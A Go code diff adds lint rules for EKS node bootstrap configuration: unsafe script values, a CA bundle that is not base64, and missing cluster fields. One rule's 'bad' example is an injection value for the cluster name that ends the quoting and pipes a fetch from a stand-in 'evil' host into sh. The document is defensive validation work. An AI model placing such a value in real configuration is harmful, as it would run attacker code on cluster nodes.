@@ -135,3 +135,32 @@ func CheckKubeletMap(m map[string]string, p rules.Path, name string) rules.Findi
 	}
 	return out
 }
+
+// The rules the checks of this file emit.
+var (
+	RuleValueUnsafe = rules.Register(rules.Rule{
+		ID: "script-value-unsafe", Severity: rules.Error, Category: category,
+		Title:     "value cannot be placed safely into the bootstrap script",
+		Behaviour: "Cluster name, endpoint, CA and DNS address are written into single-quoted shell/PowerShell arguments; a quote, `$(`, backtick, whitespace or newline would end the quoting or change the command, and is never a valid cluster fact anyway.",
+		Source:    "Karpenter eksbootstrap.go/windows.go ('%s' formatting); EKS cluster name pattern",
+		Bad:       bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster'; curl evil | sh; '"`),
+		Good:      bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`),
+	})
+	RuleCANotBase64 = rules.Register(rules.Rule{
+		ID: "cluster-ca-not-base64", Severity: rules.Error, Category: category,
+		Title:     "certificate authority is not base64",
+		Behaviour: "Karpenter base64-decodes the CA bundle for AL2023 and fails with `decoding CABundle`; bootstrap.sh pipes it through `base64 -d` and writes a broken ca.crt.",
+		Source:    "Karpenter bootstrap/nodeadm.go getNodeConfigYAML; bootstrap.sh",
+		Bad:       "# certificate_authority cut short when copied\n" + bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, `certificate_authority = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tC"`, eksCIDR),
+		Good:      bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, eksCA, eksCIDR),
+	})
+)
+
+var RuleInputMissing = rules.Register(rules.Rule{
+	ID: "bootstrap-input-missing", Severity: rules.Error, Category: category,
+	Title:     "cluster fact the bootstrap format requires is missing",
+	Behaviour: "Without the cluster name the node cannot build its kubeconfig; nodeadm rejects a NodeConfig without name, apiServerEndpoint or certificateAuthority (`nodeadm init` fails validation) and Bottlerocket without cluster-name, api-server and cluster-certificate never joins.",
+	Source:    "amazon-eks-ami nodeadm api validation; Bottlerocket settings.kubernetes",
+	Bad:       bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksCIDR),
+	Good:      bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, eksCA, eksCIDR),
+})
